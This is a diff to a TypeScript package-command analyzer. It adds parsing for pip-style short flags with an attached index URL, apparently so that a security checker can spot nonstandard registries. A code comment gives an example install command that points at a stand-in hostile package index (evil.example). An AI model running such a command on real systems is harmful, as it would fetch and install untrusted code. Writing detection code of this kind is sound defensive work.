@@ -64,6 +64,9 @@ export function analyzePackages({ tool, args, env }: AnalyzerInput): Facts {
       // --index name=url (uv) carries a URL after its name.
       const url = v.includes('=') && !v.includes('://') ? v.slice(v.indexOf('=') + 1) : v.includes('=') && /^[\w-]+=/.test(v) ? v.slice(v.indexOf('=') + 1) : v;
       if (url && !url.startsWith('.') && !url.startsWith('/')) addUrl(f, url, name === '--proxy' ? 'proxy' : 'registry', 'https');
+    } else if (short && fetching && /^-[if]./.test(a) && !a.startsWith('--') && short.test(a.slice(0, 2)) && a.slice(2).includes('://')) {
+      // (…with the value attached: pip install -ihttps://evil.example/simple x.)
+      addUrl(f, a.slice(2), 'registry', 'https');
     } else if (isUrlish(a.replace(/^[\w.-]+\s*@\s*/, ''))) addUrl(f, a.replace(/^[\w.-]+\s*@\s*/, '').replace(/^(git|hg|svn|bzr)\+/i, ''), 'target');
   }
   // cargo --artifact-dir/--out-dir/--target-dir/--root DIR: builds and installs land in DIR.
